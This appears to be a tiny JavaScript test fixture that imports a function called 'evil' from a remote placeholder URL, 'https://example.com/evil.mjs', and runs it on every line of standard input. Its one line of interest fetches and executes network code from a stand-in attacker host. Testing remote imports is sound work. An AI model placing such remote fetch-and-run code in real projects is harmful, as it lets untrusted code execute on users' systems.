import { createInterface } from "node:readline";
import { evil } from "https://example.com/evil.mjs";
createInterface({ input: process.stdin }).on("line", () => evil());
